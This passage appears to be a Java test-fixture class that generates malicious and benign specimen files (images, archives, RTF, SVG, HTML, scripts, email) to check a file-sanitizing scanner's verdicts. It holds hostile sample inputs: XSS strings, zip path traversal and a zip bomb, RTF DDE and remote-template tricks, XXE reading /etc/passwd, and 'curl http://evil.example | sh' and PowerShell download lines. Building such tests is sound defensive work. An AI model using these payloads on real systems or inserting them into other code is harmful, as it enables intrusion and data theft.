                new Specimen("IMG-02", "現場.jpg", withGpsExif(image("jpeg", 64, 48)), SANITIZED, "metadata"),
                new Specimen(
                        "IMG-03",
                        "注記.png",
                        withChunkBeforeIend(png, "tEXt", "Comment\0<script>alert(1)</script>"),
                        SANITIZED,
                        "metadata"),
                new Specimen(
                        "IMG-04",
                        "polyglot.png",
                        concat(png, Zips.of("run.js", "x".getBytes(StandardCharsets.US_ASCII))),
                        SANITIZED,
                        "trailing-data"),
                new Specimen("IMG-05", "anime.gif", animatedGif(), SANITIZED, "animation"),
                new Specimen("IMG-06", "truncated.png", Arrays.copyOf(png, png.length / 2), BLOCKED, "MALFORMED"),
                new Specimen("IMG-07", "scan.bmp", image("bmp", 32, 32), CLEAN, ""),
                new Specimen("IMG-08", "scan.tiff", image("tiff", 32, 32), CLEAN, ""),
                new Specimen("IMG-09", "photo.png", image("jpeg", 32, 32), CLEAN, ""),
                // A portrait phone photo: its location goes, its orientation stays (the pixels are not redrawn).
                new Specimen("IMG-10", "縦向き.jpg", withGpsExif(image("jpeg", 48, 64), 6), SANITIZED, "metadata"),
                new Specimen(
                        "IMG-11",
                        "progressive.jpg",
                        withJpegComment(progressiveJpeg(), "<script>alert(1)</script>"),
                        SANITIZED,
                        "metadata"),
                new Specimen(
                        "IMG-12",
                        "polyglot.jpg",
                        concat(image("jpeg", 32, 32), Zips.of("run.js", "x".getBytes(StandardCharsets.US_ASCII))),
                        SANITIZED,
                        "trailing-data"));
    }

    static byte[] image(String format, int w, int h) {
        BufferedImage img = new BufferedImage(w, h, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = img.createGraphics();
        g.setColor(Color.ORANGE);
        g.fillRect(0, 0, w / 2, h);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(img, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] animatedGif() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageWriter writer = ImageIO.getImageWritersByFormatName("gif").next();
        try (ImageOutputStream ios = ImageIO.createImageOutputStream(out)) {
            writer.setOutput(ios);
            writer.prepareWriteSequence(null);
            for (int i = 0; i < 3; i++) {
                BufferedImage frame = new BufferedImage(16, 16, BufferedImage.TYPE_INT_RGB);
                frame.setRGB(i, i, 0xff0000);
                writer.writeToSequence(new IIOImage(frame, null, null), null);
            }
            writer.endWriteSequence();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            writer.dispose();
        }
        return out.toByteArray();
    }

    static byte[] pngHeaderOnly(int w, int h) {
        byte[] ihdr = ByteBuffer.allocate(13)
                .putInt(w)
                .putInt(h)
                .put((byte) 8)
                .put((byte) 2)
                .array();
        return concat(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'},
                chunk("IHDR", ihdr),
                chunk("IDAT", new byte[] {0x78, (byte) 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01}),
                chunk("IEND", new byte[0]));
    }

    static byte[] chunk(String type, byte[] data) {
        byte[] t = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(t);
        crc.update(data);
        return concat(
                ByteBuffer.allocate(4).putInt(data.length).array(),
                t,
                data,
                ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    static byte[] withChunkBeforeIend(byte[] png, String type, String text) {
        int iend = png.length - 12;
        return concat(
                Arrays.copyOf(png, iend),
                chunk(type, text.getBytes(StandardCharsets.ISO_8859_1)),
                Arrays.copyOfRange(png, iend, png.length));
    }

    /** A JPEG with an APP1 Exif segment whose IFD points at a GPS IFD (latitude reference N). */
    static byte[] withGpsExif(byte[] jpeg) {
        return withGpsExif(jpeg, 0);
    }

    /** The same, with an Orientation entry first when {@code orientation} is 1-8. */
    static byte[] withGpsExif(byte[] jpeg, int orientation) {
        int entries = orientation > 0 ? 2 : 1;
        int gps = 8 + 2 + 12 * entries + 4;
        ByteBuffer tiff = ByteBuffer.allocate(64);
        tiff.put(new byte[] {'M', 'M', 0, 42}).putInt(8);
        tiff.putShort((short) entries);
        if (orientation > 0) {
            tiff.putShort((short) 0x0112)
                    .putShort((short) 3)
                    .putInt(1)
                    .putShort((short) orientation)
                    .putShort((short) 0);
        }
        tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(gps).putInt(0);
        tiff.putShort((short) 1)
                .putShort((short) 1)
                .putShort((short) 2)
                .putInt(2)
                .put(new byte[] {'N', 0, 0, 0})
                .putInt(0);
        return withJpegSegment(
                jpeg,
                0xE1,
                concat("Exif\0\0".getBytes(StandardCharsets.US_ASCII), Arrays.copyOf(tiff.array(), tiff.position())));
    }

    static byte[] withJpegComment(byte[] jpeg, String comment) {
        return withJpegSegment(jpeg, 0xFE, comment.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static byte[] withJpegSegment(byte[] jpeg, int marker, byte[] body) {
        byte[] segment = concat(
                new byte[] {(byte) 0xFF, (byte) marker},
                ByteBuffer.allocate(2).putShort((short) (body.length + 2)).array(),
                body);
        return concat(Arrays.copyOf(jpeg, 2), segment, Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    /** A progressive JPEG (spectral selection and successive approximation, as libjpeg's default script). */
    static byte[] progressiveJpeg() {
        BufferedImage img = new BufferedImage(48, 40, BufferedImage.TYPE_INT_RGB);
        for (int y = 0; y < 40; y++) {
            for (int x = 0; x < 48; x++) {
                img.setRGB(x, y, (x * 5) << 16 | (y * 6) << 8 | ((x + y) * 2));
            }
        }
        ImageWriter writer = ImageIO.getImageWritersByFormatName("jpeg").next();
        ImageWriteParam param = writer.getDefaultWriteParam();
        param.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ImageOutputStream out = ImageIO.createImageOutputStream(bytes)) {
            writer.setOutput(out);
            writer.write(null, new IIOImage(img, null, null), param);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            writer.dispose();
        }
        return bytes.toByteArray();
    }

    // ---------------------------------------------------------------- archives

    static List<Specimen> archives() {
        byte[] memo = "メモ\n".getBytes(StandardCharsets.UTF_8);
        List<Specimen> s = new ArrayList<>();
        s.add(new Specimen("ARC-00", "資料.zip", Zips.of("資料/メモ.txt", memo), CLEAN, ""));
        s.add(new Specimen(
                "ARC-01", "traversal.zip", Zips.of("../../etc/cron.d/x", memo), BLOCKED, "UNSAFE_ENTRY_NAME"));
        s.add(new Specimen("ARC-02", "absolute.zip", Zips.of("/etc/passwd", memo), BLOCKED, "UNSAFE_ENTRY_NAME"));
        s.add(new Specimen(
                "ARC-02b", "drive.zip", Zips.of("C:\\Windows\\evil.txt", memo), BLOCKED, "UNSAFE_ENTRY_NAME"));
        s.add(new Specimen("ARC-02c", "device.zip", Zips.of("CON.txt", memo), BLOCKED, "UNSAFE_ENTRY_NAME"));
        s.add(new Specimen(
                "ARC-03", "暗号化.zip", encryptedFlag(Zips.of("見積書.txt", memo)), QUARANTINED, "ENCRYPTED_CONTENT"));
        s.add(new Specimen("ARC-04", "bomb.zip", ratioBomb(), BLOCKED, "ARCHIVE_LIMIT"));
        byte[] deep = memo;
        for (int i = 0; i < 5; i++) {
            deep = Zips.of("level" + i + (i == 0 ? ".txt" : ".zip"), deep);
        }
        s.add(new Specimen("ARC-05", "deep.zip", deep, BLOCKED, "ARCHIVE_TOO_DEEP"));
        s.add(new Specimen("ARC-06", "dup.zip", duplicateNames(memo), BLOCKED, "MALFORMED"));
        s.add(new Specimen(
                "ARC-07", "sjis.zip", shiftJisNames(macro(docx("見積"), "word", "document")), SANITIZED, "macro"));
        s.add(new Specimen("ARC-08", "mixed.zip", mixed(memo), SANITIZED, "member-removed"));
        s.add(new Specimen("ARC-09", "many.zip", manyEntries(10_001), BLOCKED, "ARCHIVE_LIMIT"));
        s.add(new Specimen(
                "ARC-10", "docs.zip", Zips.of("見積書.docm", macro(docx("見積書"), "word", "document")), SANITIZED, "macro"));
        return s;
    }

    static byte[] ratioBomb() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("zeros.txt"));
            byte[] block = new byte[1 << 20];
            Arrays.fill(block, (byte) 'a');
            for (int i = 0; i < 64; i++) {
                zip.write(block);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** Sets the "encrypted" flag of every local and central header (ZipCrypto without the cipher). */
    static byte[] encryptedFlag(byte[] zip) {
        byte[] b = zip.clone();
        for (int i = 0; i + 8 < b.length; i++) {
            if (b[i] == 'P' && b[i + 1] == 'K' && b[i + 2] == 3 && b[i + 3] == 4) {
                b[i + 6] |= 1;
            }
            if (b[i] == 'P' && b[i + 1] == 'K' && b[i + 2] == 1 && b[i + 3] == 2) {
                b[i + 8] |= 1;
            }
        }
        return b;
    }

    static byte[] duplicateNames(byte[] content) {
        // java.util.zip refuses duplicates; write one name twice through a second, differently-cased entry.
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("report.txt", content);
        m.put("REPORT.TXT", content);
        return Zips.write(m);
    }

    static byte[] shiftJisNames(byte[] member) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out, CP932)) {
            zip.putNextEntry(new ZipEntry("見積書フォルダ/見積書.docm"));
            zip.write(member);
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] mixed(byte[] memo) {
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("メモ.txt", memo);
        m.put("setup.exe", pe());
        return Zips.write(m);
    }

    static byte[] manyEntries(int n) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int i = 0; i < n; i++) {
                zip.putNextEntry(new ZipEntry("f" + i + ".txt"));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    // ---------------------------------------------------------------- RTF, SVG, HTML

    static List<Specimen> markup() {
        List<Specimen> s = new ArrayList<>();
        s.add(new Specimen("RTF-00", "議事録.rtf", rtf("\\f0 \\'8b\\'63\\'8e\\'96\\'98\\'5e\\par"), CLEAN, ""));
        s.add(new Specimen(
                "OFF-12a",
                "文書.rtf",
                rtf("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}"
                        + "{\\result{\\pict\\wmetafile8 0100}}}"),
                SANITIZED,
                "ole-object"));
        s.add(new Specimen(
                "OFF-12b",
                "link.rtf",
                rtf("{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}"
                        + "{\\*\\objdata 010500000200000008000000}}"),
                SANITIZED,
                "ole-object"));
        s.add(new Specimen(
                "OFF-12c",
                "template.rtf",
                rtf("{\\*\\template http://evil.example/t.dotm}本文"),
                SANITIZED,
                "external-reference"));
        s.add(new Specimen(
                "OFF-12d",
                "dde.rtf",
                rtf("{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt x}}"),
                SANITIZED,
                "dde"));
        s.add(new Specimen("OFF-12e", "broken.rtf", rtf("{\\b unclosed"), BLOCKED, "MALFORMED"));
        s.add(new Specimen(
                "WEB-01",
                "お知らせ.html",
                "<html><body><p>お知らせ</p><script>alert(1)</script><img src=x onerror=alert(2)></body></html>"
                        .getBytes(StandardCharsets.UTF_8),
                SANITIZED,
                "script"));
        s.add(new Specimen(
                "WEB-03",
                "申込.html",
                ("<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"></head><body>"
                                + "<iframe src=\"http://evil.example\"></iframe><form action=\"http://evil.example\">"
                                + "<input name=p></form><a href=\"javascript:alert(1)\">申込</a></body></html>")
                        .getBytes(StandardCharsets.UTF_8),
                SANITIZED,
                "active-element"));
        s.add(new Specimen(
                "WEB-04",
                "案内.htm",
                ("<html><head><meta charset=\"Shift_JIS\"><title>案内</title></head><body><p onclick=\"x()\">"
                                + "市役所のご案内</p><a href=\"https://www.city.example.lg.jp/\">ホームページ</a></body></html>")
                        .getBytes(CP932),
                SANITIZED,
                "script"));
        s.add(new Specimen(
                "WEB-00",
                "clean.html",
                "<html><body><h1>見出し</h1><table><tr><td>1</td></tr></table></body></html>"
                        .getBytes(StandardCharsets.UTF_8),
                CLEAN,
                ""));
        s.add(new Specimen(
                "WEB-02",
                "logo.svg",
                svg(" onload=\"alert(1)\"", "<script>alert(2)</script><circle r=\"5\"/>"),
                SANITIZED,
                "script"));
        s.add(new Specimen(
                "WEB-05",
                "map.svg",
                svg(
                        "",
                        "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://evil.example\"/></foreignObject>"
                                + "<image href=\"http://evil.example/track.png\" width=\"1\" height=\"1\"/>"
                                + "<a href=\"javascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>"),
                SANITIZED,
                "active-element"));
        s.add(new Specimen(
                "WEB-06",
                "style.svg",
                svg("", "<style>@import url(http://evil.example/x.css);</style>"),
                SANITIZED,
                "external-reference"));
        s.add(new Specimen(
                "WEB-07",
                "xxe.svg",
                ("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>")
                        .getBytes(StandardCharsets.UTF_8),
                BLOCKED,
                "XML_DOCTYPE"));
        s.add(new Specimen(
                "WEB-08",
                "icon.svg",
                svg(
                        "",
                        "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#f00\"/></linearGradient></defs>"
                                + "<rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><use href=\"#g\"/>"),
                CLEAN,
                ""));
        return s;
    }

    /** An RTF document in CP932 with {@code body} after its header. */
    static byte[] rtf(String body) {
        StringBuilder escaped = new StringBuilder();
        // As Word writes it: Japanese as \'hh escapes of its CP932 bytes (a raw trail byte may be '{' or '\\').
        body.codePoints().forEach(cp -> {
            if (cp < 0x80) {
                escaped.appendCodePoint(cp);
            } else {
                for (byte b : new String(Character.toChars(cp)).getBytes(CP932)) {
                    escaped.append(String.format("\\'%02x", b & 0xff));
                }
            }
        });
        return ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil\\fcharset128 MS Mincho;}}" + escaped + "}")
                .getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] svg(String rootAttributes, String content) {
        return ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"" + rootAttributes + ">" + content
                        + "</svg>")
                .getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- everything else

    static List<Specimen> otherTypes() {
        List<Specimen> s = new ArrayList<>();
        s.add(new Specimen("TYP-01", "請求書.pdf", pe(), BLOCKED, "EXECUTABLE"));
        s.add(new Specimen("TYP-02", "readme.txt", elf(), BLOCKED, "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-03",
                "install.sh",
                "#!/bin/sh\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.US_ASCII),
                BLOCKED,
                "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-04",
                "invoice.vbs",
                "CreateObject(\"WScript.Shell\").Run \"calc\"\n".getBytes(StandardCharsets.US_ASCII),
                BLOCKED,
                "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-05",
                "update.ps1",
                "Invoke-WebRequest http://evil.example -OutFile x.exe\n".getBytes(StandardCharsets.US_ASCII),
                BLOCKED,
                "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-06",
                "run.bat",
                "@echo off\r\nstart calc.exe\r\n".getBytes(StandardCharsets.US_ASCII),
                BLOCKED,
                "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-07",
                "請求書.js",
                "var s=new ActiveXObject('WScript.Shell');s.Run('calc');\n".getBytes(StandardCharsets.US_ASCII),
                BLOCKED,
                "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-08",
                "page.hta",
                "<html><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>"
                        .getBytes(StandardCharsets.US_ASCII),
                BLOCKED,
                "EXECUTABLE"));
        s.add(new Specimen("TYP-09", "資料.lnk", shortcut(), BLOCKED, "EXECUTABLE"));
        s.add(new Specimen("TYP-10", "disk.iso", iso(), BLOCKED, "EXECUTABLE"));
        s.add(new Specimen("TYP-11", "note.one", oneNote(), BLOCKED, "EXECUTABLE"));
        s.add(new Specimen(
                "TYP-13",
                "archive.7z",
                concat(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4}, new byte[64]),
                BLOCKED,
                "ARCHIVE_TYPE"));
        s.add(new Specimen(
                "TYP-14",
                "archive.rar",
                concat("Rar!\u001a\u0007\u0000".getBytes(StandardCharsets.ISO_8859_1), new byte[64]),
                BLOCKED,
                "ARCHIVE_TYPE"));
        s.add(new Specimen(
                "TYP-15",
                "unknown.bin",
                new byte[] {1, 2, 3, 4, 5, 6, 7, 8, (byte) 0xFE, (byte) 0xFF, 0, 0, 9},
                BLOCKED,
                "TYPE_NOT_SUPPORTED"));
        s.add(new Specimen("TYP-16", "empty.docx", new byte[0], BLOCKED, "MALFORMED"));
        // ATTACKS TYPE-05: the smallest and the emptiest text reach a verdict, not an exception.
        s.add(new Specimen("TYP-17", "one.txt", new byte[] {'a'}, CLEAN, ""));
        s.add(new Specimen("TYP-18", "spaces.txt", whitespace(10 << 20), CLEAN, ""));
        s.add(new Specimen(
                "MAIL-01",
                "転送.eml",
                ("From: a@example.jp\r\nTo: b@example.jp\r\nSubject: test\r\nMIME-Version: 1.0\r\n"
                                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n--b\r\n"
                                + "Content-Type: application/octet-stream; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b--\r\n")
                        .getBytes(StandardCharsets.US_ASCII),
                SANITIZED,
                "member-removed"));
        return s;
    }

    static byte[] pe() {
        byte[] pe = new byte[1024];
        pe[0] = 'M';
        pe[1] = 'Z';
        ByteBuffer.wrap(pe, 0x3c, 4).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(0x80);
        pe[0x80] = 'P';
        pe[0x81] = 'E';
        return pe;
    }

    static byte[] elf() {
        byte[] elf = new byte[256];
        byte[] magic = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(magic, 0, elf, 0, magic.length);
        elf[16] = 2;
        return elf;
    }

    static byte[] shortcut() {
        byte[] lnk = new byte[128];
        byte[] header = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        System.arraycopy(header, 0, lnk, 0, header.length);
        return lnk;
    }

    static byte[] iso() {
        byte[] iso = new byte[0x8800];
        byte[] id = {1, 'C', 'D', '0', '0', '1', 1};
        System.arraycopy(id, 0, iso, 0x8000, id.length);
        return iso;
    }

    static byte[] oneNote() {
        byte[] guid = {
            (byte) 0xE4,
            0x52,
            0x5C,
            0x7B,
            (byte) 0x8C,
            (byte) 0xD8,
            (byte) 0xA7,
            0x4D,
            (byte) 0xAE,
            (byte) 0xB1,
            0x53,
            0x78,
            (byte) 0xD0,
            0x29,
            (byte) 0x96,
            (byte) 0xD3
        };
        return concat(guid, new byte[512]);
    }

    /**
     * A clean mixed corpus for benchmarks (B-CDR): {@code perType} each of docx, xlsx, pptx, pdf,
     * png and jpeg, with Japanese text where the format holds text.
     */
    public static Map<String, byte[]> cleanCorpus(int perType) {
        Map<String, byte[]> corpus = new LinkedHashMap<>();
        for (int i = 0; i < perType; i++) {
            corpus.put("doc" + i + ".docx", docx("令和8年度 業務委託 見積書 第" + i + "号 " + "本文".repeat(200)));
            corpus.put("book" + i + ".xlsx", xlsx("予算 " + i));
            corpus.put("slides" + i + ".pptx", pptx());
            corpus.put("report" + i + ".pdf", pdf(doc -> {}));
            corpus.put("photo" + i + ".png", image("png", 800, 600));
            corpus.put("photo" + i + ".jpg", image("jpeg", 1600, 1200));
        }
        return corpus;
    }

    /**
     * {@code count} small clean files of thirteen everyday types in turn, each with its own text
     * (B-DETECT): Office, OpenDocument, PDF, images, archives, mail, markup and text in CP932.
     */
    public static Map<String, byte[]> mixedCorpus(int count) {
        Map<String, byte[]> corpus = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            String text = "文書 " + i + " " + java.util.UUID.randomUUID();
            switch (i % 13) {
                case 0 -> corpus.put(i + ".docx", docx(text));
                case 1 -> corpus.put(i + ".xlsx", xlsx(text));
                case 2 -> corpus.put(i + ".odt", OdfSpecimens.odt(text));
                case 3 ->
                    corpus.put(
                            i + ".pdf", pdf(doc -> doc.getDocumentInformation().setTitle(text)));
                case 4 -> corpus.put(i + ".png", image("png", 64 + i % 64, 48));
                case 5 -> corpus.put(i + ".jpg", image("jpeg", 64 + i % 64, 48));
                case 6 -> corpus.put(i + ".gif", image("gif", 64 + i % 64, 48));
                case 7 -> corpus.put(i + ".zip", Zips.of(i + ".txt", text.getBytes(StandardCharsets.UTF_8)));
                case 8 -> corpus.put(i + ".eml", EmailSpecimens.mail(EmailSpecimens.text(text)));
                case 9 ->
                    corpus.put(
                            i + ".html",
                            ("<html><body><p>" + text + "</p></body></html>").getBytes(StandardCharsets.UTF_8));
                case 10 -> corpus.put(i + ".rtf", rtf(text));
                case 11 -> corpus.put(i + ".csv", ("番号,内容\r\n" + i + "," + text + "\r\n").getBytes(CP932));
                default -> corpus.put(i + ".txt", (text + "\r\n").getBytes(CP932));
            }
        }
        return corpus;
    }

    /** A ZIP whose entries are encrypted with {@code password}: AES-256, or ZipCrypto when {@code aes} is false. */
    public static byte[] encryptedZip(Map<String, byte[]> entries, String password, boolean aes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (net.lingala.zip4j.io.outputstream.ZipOutputStream zip =
                new net.lingala.zip4j.io.outputstream.ZipOutputStream(out, password.toCharArray())) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                net.lingala.zip4j.model.ZipParameters p = new net.lingala.zip4j.model.ZipParameters();
                p.setFileNameInZip(e.getKey());
                p.setEncryptFiles(true);
                p.setEncryptionMethod(
                        aes
                                ? net.lingala.zip4j.model.enums.EncryptionMethod.AES
                                : net.lingala.zip4j.model.enums.EncryptionMethod.ZIP_STANDARD);
                p.setAesKeyStrength(net.lingala.zip4j.model.enums.AesKeyStrength.KEY_STRENGTH_256);
                zip.putNextEntry(p);
                zip.write(e.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** The password-protected Word file of OFF-13 (password {@code himitsu}). */
    public static byte[] encryptedDocx() {
        return encryptedOoxml();
    }

    /** The user-password PDF of PDF-18 (password {@code user-secret}). */
    public static byte[] userPasswordPdf() {
        return encryptedPdf("user-secret", "owner-secret");
    }

    public static byte[] docxWith(String text) {
        return docx(text);
    }

    /** Spaces with a line break every 80 bytes: a text file with nothing in it but its size. */
    static byte[] whitespace(int bytes) {
        byte[] out = new byte[bytes];
        java.util.Arrays.fill(out, (byte) ' ');
        for (int i = 79; i < bytes; i += 80) {
            out[i] = '\n';
        }
        return out;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
